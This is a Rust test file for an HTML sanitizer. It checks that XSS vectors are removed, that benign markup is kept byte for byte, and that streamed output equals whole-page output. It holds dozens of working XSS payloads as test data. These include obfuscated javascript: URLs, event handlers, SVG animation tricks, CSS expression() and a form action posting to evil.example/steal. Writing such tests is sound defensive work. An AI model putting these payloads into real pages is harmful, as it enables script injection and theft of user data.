//! Data-driven cases: XSS vectors removed, benign markup kept byte for byte, and the
//! streaming invariant (any chunking gives the whole-page result).

use airlock_sanitize_html::{Mode, Policy, Sanitized, StreamSanitizer, sanitize};

const LANDING: &str = include_str!("../fixtures/landing.html");

/// Sanitizes `input` in `mode`, compares text and fired rules, then checks streaming.
fn check(mode: Mode, input: &str, expected: &str, rules: &[&str]) {
    let policy = Policy { mode, ..Policy::default() };
    let Sanitized { text, findings } = sanitize(input, &policy);
    assert_eq!(text, expected, "input: {input}");
    let fired: Vec<&str> = findings.iter().map(|f| f.rule).collect();
    assert_eq!(fired, rules, "input: {input}");
    check_streaming(&policy, input);
}

fn removed(input: &str, rules: &[&str]) {
    check(Mode::Static, input, "", rules);
}

fn kept(input: &str) {
    check(Mode::Static, input, input, &[]);
}

#[test]
fn the_canonical_case() {
    check(
        Mode::Static,
        "<img src=x onerror=alert(1)><div class=\"p-4 text-xl\">ok</div>",
        "<img src=x><div class=\"p-4 text-xl\">ok</div>",
        &["event-handler"],
    );
}

#[test]
fn scripts() {
    removed("<script>alert(1)</script>", &["script-inline"]);
    removed("<SCRIPT>alert(1)</SCRIPT>", &["script-inline"]);
    removed("<script src=\"https://evil.example/x.js\"></script>", &["script-src"]);
    removed("<script src=\"http://cdn.tailwindcss.com\"></script>", &["script-src"]);
    removed("<script src=\"https://cdn.tailwindcss.com@evil.example/\"></script>", &["script-src"]);
    removed(
        "<svg><script>alert(1)</script></svg>".trim_start_matches("<svg>").trim_end_matches("</svg>"),
        &["script-inline"],
    );
    check(Mode::Static, "<svg><script href=x>alert(1)</script></svg>", "<svg></svg>", &["script-foreign"]);
    kept("<script src=\"https://cdn.tailwindcss.com\"></script>");
    kept("<script src=\"https://unpkg.com/react@18/umd/react.development.js\" crossorigin></script>");
    let app = "<script type=\"text/babel\">const App = () => <div>hi</div>;</script>";
    check(Mode::App, app, app, &[]);
    check(Mode::App, "<script src=//evil.example/a.js></script><p>x</p>", "<p>x</p>", &["script-src"]);
}

#[test]
fn event_handlers_everywhere() {
    check(Mode::Static, "<svg/onload=alert(1)>", "<svg>", &["event-handler"]);
    check(Mode::Static, "<body onload=\"x()\" class=a>", "<body class=a>", &["event-handler"]);
    check(Mode::Static, "<a href=\"#\" OnClIcK=\"x()\">a</a>", "<a href=\"#\">a</a>", &["event-handler"]);
    check(Mode::App, "<button onclick=\"go()\">go</button>", "<button>go</button>", &["event-handler"]);
}

#[test]
fn script_urls_in_every_disguise() {
    for href in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#0000106&#0000097vascript:alert(1)",
        "java\tscript:alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
    ] {
        check(Mode::Static, &format!("<a href=\"{href}\">x</a>"), "<a>x</a>", &["dangerous-url"]);
    }
    check(Mode::Static, "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img>", &["dangerous-url"]);
    check(
        Mode::Static,
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<form><button>x</button></form>",
        &["dangerous-url"],
    );
    check(Mode::Static, "<img srcset=\"a.png 1x, javascript:alert(1) 2x\">", "<img>", &["dangerous-url"]);
    kept("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"\">");
    kept("<a href=\"https://example.com/page?q=1&amp;r=2\">ok</a>");
    kept("<a href=\"mailto:hi@example.com\">mail</a>");
}

#[test]
fn embedding_and_retargeting_elements() {
    removed("<iframe src=\"https://evil.example\"></iframe>", &["embedded-content"]);
    removed("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", &["embedded-content"]);
    removed("<object data=\"x.swf\"></object>", &["embedded-content"]);
    removed("<embed src=\"x.swf\">", &["embedded-content"]);
    removed("<base href=\"https://evil.example/\">", &["embedded-content"]);
    removed("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", &["meta-http-equiv"]);
    removed("<link rel=import href=\"https://evil.example/x.html\">", &["link-import"]);
    removed("<link rel=stylesheet href=\"https://evil.example/x.css\">", &["link-src"]);
    check(Mode::Static, "<div srcdoc=\"x\">a</div>", "<div>a</div>", &["srcdoc"]);
    kept("<meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\">");
    kept("<link href=\"https://fonts.googleapis.com/css2?family=Inter\" rel=\"stylesheet\">");
}

#[test]
fn svg_and_mathml_vectors() {
    check(
        Mode::Static,
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><a><text>x</text></a></svg>",
        &["dangerous-url"],
    );
    check(
        Mode::Static,
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><a><text>x</text></a></svg>",
        &["svg-animation"],
    );
    check(Mode::Static, "<svg><set attributeName=onmouseover to=alert(1) /></svg>", "<svg></svg>", &["svg-animation"]);
    check(
        Mode::Static,
        "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
        "<svg><use/></svg>",
        &["svg-use-external"],
    );
    check(
        Mode::Static,
        "<svg><foreignObject><iframe></iframe></foreignObject></svg>",
        "<svg></svg>",
        &["embedded-content", "embedded-content"],
    );
    check(
        Mode::Static,
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><maction actiontype=statusline>x</maction></math>",
        &["dangerous-url"],
    );
    kept("<svg class=\"h-6 w-6\" viewBox=\"0 0 24 24\"><use href=\"#icon\"/><path d=\"M3 3v18h18\"/></svg>");
}

#[test]
fn forms_and_css() {
    check(
        Mode::Static,
        "<form action=\"https://evil.example/steal\"><input></form>",
        "<form><input></form>",
        &["form-action"],
    );
    check(Mode::Static, "<form action=\"//evil.example\"></form>", "<form></form>", &["form-action"]);
    kept("<form action=\"/signup\" method=\"post\"></form>");
    check(
        Mode::Static,
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div>x</div>",
        &["dangerous-css"],
    );
    check(Mode::Static, "<div style=\"width: expression(alert(1))\">x</div>", "<div>x</div>", &["dangerous-css"]);
    check(Mode::Static, "<div style=\"width: \\65 xpression(alert(1))\">x</div>", "<div>x</div>", &["dangerous-css"]);
    check(
        Mode::Static,
        "<div style=\"background:url(java\\script:alert(1))\">x</div>",
        "<div>x</div>",
        &["dangerous-css"],
    );
    check(Mode::Static, "<style>a { behavior: url(x.htc) }</style>", "<style></style>", &["dangerous-css"]);
    check(
        Mode::Static,
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style></style>",
        &["dangerous-css"],
    );
    kept("<style>@import url('https://fonts.googleapis.com/css2?family=Inter');body{margin:0}</style>");
    kept("<div style=\"background-image: url('https://images.example.com/a.png'); color: #333\">x</div>");
}

#[test]
fn conditional_comments_go_and_others_stay() {
    check(
        Mode::Static,
        "<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>",
        "<p>x</p>",
        &["conditional-comment"],
    );
    kept("<!-- a normal comment --><p>x</p>");
}

#[test]
fn a_realistic_page_survives_byte_for_byte() {
    assert!(LANDING.len() > 50_000);
    let Sanitized { text, findings } = sanitize(LANDING, &Policy::default());
    assert!(findings.is_empty(), "{findings:?}");
    assert_eq!(text, LANDING);
}

#[test]
fn mode_parses_with_a_helpful_error() {
    assert_eq!("app".parse::<Mode>(), Ok(Mode::App));
    assert_eq!("static".parse::<Mode>(), Ok(Mode::Static));
    assert_eq!("dynamic".parse::<Mode>(), Err("unknown mode `dynamic`; expected `static` or `app`".into()));
}

#[test]
fn chunked_landing_page_equals_whole() {
    let policy = Policy::default();
    let whole = sanitize(LANDING, &policy);
    for size in [1, 7, 64, 1000] {
        assert_eq!(stream(&policy, LANDING, &chunks_of(LANDING, size)), whole, "chunk size {size}");
    }
}

#[test]
fn multibyte_text_streams_intact() {
    let input = "<p>Grüße, 世界 — ✓ ☃</p><script>évil()</script>";
    check(Mode::Static, input, "<p>Grüße, 世界 — ✓ ☃</p>", &["script-inline"]);
}

/// Every two-piece split at a char boundary, plus deterministic pseudo-random splits.
fn check_streaming(policy: &Policy, input: &str) {
    let whole = sanitize(input, policy);
    let boundaries: Vec<usize> = (0..=input.len()).filter(|&i| input.is_char_boundary(i)).collect();
    for &cut in &boundaries {
        assert_eq!(stream(policy, input, &[&input[..cut], &input[cut..]]), whole, "split at {cut} of {input}");
    }
    let mut seed = 0x2545_f491_4f6c_dd1d_u64 ^ input.len() as u64;
    for _ in 0..50 {
        let mut cuts: Vec<usize> =
            (0..4).map(|_| boundaries[(xorshift(&mut seed) % boundaries.len() as u64) as usize]).collect();
        cuts.sort_unstable();
        let mut pieces = Vec::new();
        let mut from = 0;
        for cut in cuts.into_iter().chain([input.len()]) {
            pieces.push(&input[from..cut]);
            from = cut;
        }
        assert_eq!(stream(policy, input, &pieces), whole, "pieces {pieces:?}");
    }
}

fn stream(policy: &Policy, _input: &str, pieces: &[&str]) -> Sanitized {
    let mut sanitizer = StreamSanitizer::new(policy);
    let mut text: String = pieces.iter().map(|piece| sanitizer.push(piece)).collect();
    let end = sanitizer.finish();
    text.push_str(&end.text);
    Sanitized { text, findings: end.findings }
}

fn chunks_of(text: &str, size: usize) -> Vec<&str> {
    let mut pieces = Vec::new();
    let mut from = 0;
    while from < text.len() {
        let mut to = (from + size).min(text.len());
        while !text.is_char_boundary(to) {
            to += 1;
        }
        pieces.push(&text[from..to]);
        from = to;
    }
    pieces
}

fn xorshift(seed: &mut u64) -> u64 {
    *seed ^= *seed << 13;
    *seed ^= *seed >> 7;
    *seed ^= *seed << 17;
    *seed
}
